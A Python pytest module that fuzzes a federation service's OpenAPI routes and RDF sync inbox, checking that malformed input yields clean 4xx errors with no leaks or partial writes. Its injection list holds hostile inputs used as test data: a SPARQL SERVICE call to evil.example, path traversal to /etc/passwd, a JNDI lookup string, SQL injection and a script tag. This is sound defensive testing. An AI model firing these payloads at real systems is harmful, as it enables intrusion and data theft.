"""Bounded, seeded fuzzing of the federation's HTTP API (every operation in its OpenAPI
document, so routes added later are fuzzed too) and of its RDF inbox (sync pushes).

Each request gets malformed JSON, wrong types, huge or deeply nested payloads, SPARQL and
IRI injection in parameters, path traversal, bad tokens and odd content types. Every answer
must be a 2xx/3xx or a 4xx problem document: no 5xx, no stack trace, no other sponsor's data
(a leak), and no graph may change (a partial write). The counts are printed.
"""

from __future__ import annotations

import hashlib
import json
import random
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from federation.api.app import create_app
from federation.config import FederationSettings
from tests.test_trust import ADMIN, B, _seed
from twinfed.serving import serve

SEED = 20261126
REQUESTS_PER_OPERATION = 14
INBOX_PUSHES = 60
BETA_MARKERS = (f"{B}batch/B-1", '"B-1"', "B-1\n", ">B-1<")
TRACE_MARKERS = ("Traceback (most recent call last)", 'File "/', "site-packages")

INJECTIONS = [
    "> } ; DROP ALL ; <", "\" . } SERVICE <http://evil.example/> { ?s ?p ?o } #",
    "<https://w3id.org/twinfed/site/SITE-B/batch/B-1>", "?s ?p ?o } UNION { GRAPH ?g { ?s ?p ?o",
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%00", "\u0000", "' OR '1'='1",
    "${jndi:ldap://x}", "<script>alert(1)</script>", "\\u0022 }", "urn:twinfed:store:meta",
    "SELECT * FROM <urn:twinfed:store:view:BETA> WHERE { ?s ?p ?o }",
    "\U0001F600" * 50, "a" * 5000, "", " ", "-1", "1e309", "null", "true", "[]", "{}",
]


def _value(rng: random.Random) -> Any:
    kind = rng.randrange(9)
    if kind == 0:
        return rng.choice(INJECTIONS)
    if kind == 1:
        return rng.randint(-2**63, 2**63)
    if kind == 2:
        return rng.random() * 10 ** rng.randint(-5, 300)
    if kind == 3:
        return None
    if kind == 4:
        return [_value(rng) for _ in range(rng.randint(0, 4))]
    if kind == 5:
        return {rng.choice(["a", "code", "name", "roles", "sponsors", "iri"]): _value(rng)}
    if kind == 6:
        return rng.choice([True, False])
    if kind == 7:
        return "".join(chr(rng.randint(1, 0x2FFF)) for _ in range(rng.randint(1, 40)))
    return "x" * rng.choice([1, 100, 70_000])


def _body(rng: random.Random, schema_fields: list[str]) -> tuple[bytes, str]:
    """A malformed or ill-typed body, and its content type."""
    kind = rng.randrange(8)
    if kind == 0:
        return b'{"code": "A", ', "application/json"  # truncated JSON
    if kind == 1:
        depth = rng.choice([50, 5_000, 200_000])
        return b"[" * depth + b"]" * depth, "application/json"
    if kind == 2:
        return bytes(rng.randrange(256) for _ in range(rng.randint(1, 512))), \
            rng.choice(["application/json", "application/octet-stream", "text/plain"])
    if kind == 3:
        return json.dumps("x" * 300_000).encode(), "application/json"
    if kind == 4:
        return b"\xff\xfe\x00{", "application/json; charset=utf-8"
    fields = schema_fields or ["a"]
    body = {name: _value(rng) for name in rng.sample(fields, rng.randint(0, len(fields)))}
    if rng.random() < 0.3:
        body[rng.choice(INJECTIONS)[:30] or "x"] = _value(rng)
    return json.dumps(body).encode(), "application/json"


def _schema_fields(spec: dict, operation: dict) -> list[str]:
    content = operation.get("requestBody", {}).get("content", {})
    schema = next(iter(content.values()), {}).get("schema", {}) if content else {}
    if "$ref" in schema:
        schema = spec["components"]["schemas"][schema["$ref"].rsplit("/", 1)[-1]]
    return list(schema.get("properties", {}))


def _path(rng: random.Random, template: str) -> str:
    def fill(_: re.Match[str]) -> str:
        value = rng.choice(INJECTIONS + ["SITE-A", "SITE-B", "B-1", "..", "%2e%2e%2f%2e%2e"])
        return quote(str(value), safe="" if rng.random() < 0.5 else "/.%")
    return re.sub(r"\{[^}]+\}", fill, template)


@pytest.fixture(scope="module")
def fed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    data = tmp_path_factory.mktemp("fuzz-fed")
    settings = FederationSettings(data=data, admin_token=ADMIN, rate_limit_per_min=10**6,
                                  rate_limit_burst=10**5, max_request_mb=1)
    app = create_app(settings)
    with serve(app) as url:
        _seed(app.state.store)
        with httpx.Client(base_url=url, headers={"Authorization": f"Bearer {ADMIN}"}) as admin:
            qa = admin.post("/users", json={"name": "qa-acme", "roles": ["quality"],
                                            "sponsors": ["ACME"]}).json()["token"]
            site = admin.post("/sites", json={"code": "SITE-A"}).json()["token"]
        yield {"url": url, "app": app, "spec": app.openapi(), "qa": qa, "site": site,
               "data": data}


class Tally:
    def __init__(self) -> None:
        self.requests = self.faults = self.server_errors = self.leaks = self.traces = 0
        self.not_problem = 0
        self.examples: list[str] = []

    def check(self, response: httpx.Response, caller: str) -> None:
        self.requests += 1
        text = response.text
        what = f"{response.request.method} {response.request.url.path} -> " \
               f"{response.status_code}: {text[:200]}"
        if response.status_code >= 500:
            self.server_errors += 1
            self.examples.append(what)
        if response.status_code >= 400 and not response.headers.get(
                "content-type", "").startswith("application/problem+json"):
            self.not_problem += 1
            self.examples.append(what)
        if any(marker in text for marker in TRACE_MARKERS):
            self.traces += 1
            self.examples.append(what)
        if caller == "qa" and any(marker in text for marker in BETA_MARKERS) \
                and response.status_code < 400:
            self.leaks += 1
            self.examples.append(what)


def _graph_state(app: Any) -> dict[str, str]:
    store = app.state.store
    return {iri: hashlib.sha256(store.get_graph(iri)).hexdigest()
            for iri in store.graph_names()}


def test_fuzzing_the_api_gives_problem_documents_and_leaks_nothing(
        fed: dict, capsys: pytest.CaptureFixture[str]) -> None:
    rng = random.Random(SEED)
    tally = Tally()
    before = _graph_state(fed["app"])
    tokens = {"qa": fed["qa"], "site": fed["site"], "bad": "user_" + "x" * 40, "none": None}
    with httpx.Client(base_url=fed["url"], timeout=60) as client:
        for template, operations in sorted(fed["spec"]["paths"].items()):
            for method, operation in sorted(operations.items()):
                fields = _schema_fields(fed["spec"], operation)
                params = [p["name"] for p in operation.get("parameters", [])
                          if p.get("in") == "query"] + ["query", "iri", "default-graph-uri"]
                for _ in range(REQUESTS_PER_OPERATION):
                    caller = rng.choice(list(tokens))
                    headers = {} if tokens[caller] is None else \
                        {"Authorization": f"Bearer {tokens[caller]}"}
                    query = {name: str(_value(rng))[:3000]
                             for name in rng.sample(params, rng.randint(0, len(params)))}
                    body, media = (None, None)
                    if method in ("post", "put", "patch") or rng.random() < 0.1:
                        body, media = _body(rng, fields)
                        headers["Content-Type"] = media
                    tally.faults += 1
                    response = client.request(method.upper(), _path(rng, template),
                                               params=query, content=body, headers=headers)
                    tally.check(response, caller)
    after = _graph_state(fed["app"])
    lost = len([g for g in before if before[g] != after.get(g)])
    with capsys.disabled():
        print(f"\nfuzz API: requests fuzzed {tally.requests}, faults injected {tally.faults}, "
              f"5xx {tally.server_errors}, non-problem errors {tally.not_problem}, "
              f"stack traces {tally.traces}, items lost {lost}, leaks {tally.leaks}")
    assert tally.requests >= 200
    assert (tally.server_errors, tally.not_problem, tally.traces, tally.leaks) == (0, 0, 0, 0), \
        "\n".join(tally.examples[:10])
    assert lost == 0  # routes that may write (e.g. a signature run) only add graphs


def _push(rng: random.Random, case: str) -> dict[str, Any]:
    site = "SITE-A"
    base = f"https://w3id.org/twinfed/site/{site}/"
    meta_graph, batch_graph = f"{base}meta", f"{base}batch/F-{rng.randrange(10**6)}"
    batch = f"{base}batch/F-1"
    if case == "malformed":
        nquads = "".join(chr(rng.randint(32, 126)) for _ in range(rng.randint(1, 400)))
    elif case == "huge-literal":
        nquads = f'<{batch}> <urn:p> "{"x" * 200_000}" <{batch_graph}> .\n'
    elif case == "blank-nodes":
        nquads = "".join(f"_:b{i} <urn:p> _:b{i + 1} <{batch_graph}> .\n" for i in range(1500))
    elif case == "iri-injection":
        nquads = f"<{batch}> <urn:p> <http://x/> . <a> <b> <c> <{B}batch/B-1> .\n"
    elif case == "literal-injection":
        nquads = f'<{batch}> <urn:p> "a\\" . <{batch}> <urn:q> \\"b" <{batch_graph}> .\n'
    elif case == "other-sites-graph":
        batch_graph = f"{B}batch/B-1"
        nquads = f'<{B}batch/B-1> <urn:p> "taken over" <{batch_graph}> .\n'
    else:  # valid RDF, but not a batch the shapes accept
        nquads = f'<{batch}> <urn:p> "{rng.random()}" <{batch_graph}> .\n'
    meta = f'<{base}site> <urn:p> "m" <{meta_graph}> .\n'
    digest = hashlib.sha256(nquads.encode()).hexdigest()
    if rng.random() < 0.2:
        digest = "0" * 64  # content that does not match its hash
    return {"protocol": "twinfed-sync/1", "push_id": f"fuzz-{rng.randrange(10**12):012d}",
            "site": site, "since_rev": 0, "to_rev": rng.randint(0, 10),
            "created_at": datetime.now(UTC).isoformat(), "software_version": "fuzz",
            "meta_graph": meta_graph, "meta_sha256": hashlib.sha256(meta.encode()).hexdigest(),
            "meta_content_sha256": "1" * 64, "meta_nquads": meta,
            "batches": [{"batch_id": batch_graph.rsplit("/", 1)[-1], "rev": 1,
                         "graph": batch_graph, "sha256": digest, "nquads": nquads}],
            "deleted_batches": rng.choice([[], ["B-1"], ["../../meta"]])}


def test_fuzzing_the_rdf_inbox_refuses_every_bad_push_and_writes_nothing(
        fed: dict, capsys: pytest.CaptureFixture[str]) -> None:
    rng = random.Random(SEED + 1)
    tally = Tally()
    cases = ["malformed", "huge-literal", "blank-nodes", "iri-injection", "literal-injection",
             "other-sites-graph", "unshaped"]
    before = _graph_state(fed["app"])
    tried: dict[str, int] = {}
    with httpx.Client(base_url=fed["url"], timeout=120,
                      headers={"Authorization": f"Bearer {fed['site']}"}) as client:
        for _ in range(INBOX_PUSHES):
            case = rng.choice(cases)
            tried[case] = tried.get(case, 0) + 1
            push = _push(rng, case)
            target = "SITE-B" if rng.random() < 0.1 else "SITE-A"
            tally.faults += 1
            response = client.post(f"/sync/{target}/pushes", json=push)
            tally.check(response, "site")
            assert response.status_code in (403, 409, 413, 422), response.text[:300]
    after = _graph_state(fed["app"])
    with httpx.Client(base_url=fed["url"], headers={"Authorization": f"Bearer {ADMIN}"}) as a:
        stored = [h for h in a.get("/sites/SITE-A/pushes", params={}).json()
                  if h["outcome"] == "stored"]
    partial = len(set(after) ^ set(before)) + len([g for g in before if before[g] != after[g]])
    with capsys.disabled():
        print(f"\nfuzz inbox: pushes fuzzed {tally.requests} ({tried}), 5xx "
              f"{tally.server_errors}, partial writes {partial}, stored {len(stored)}")
    assert (tally.server_errors, tally.not_problem, tally.traces) == (0, 0, 0), \
        "\n".join(tally.examples[:10])
    assert partial == 0 and not stored


def test_the_audit_log_stays_intact_under_fuzzing(fed: dict) -> None:
    from federation.audit import audit_log_in

    assert audit_log_in(Path(fed["data"])).verify().intact
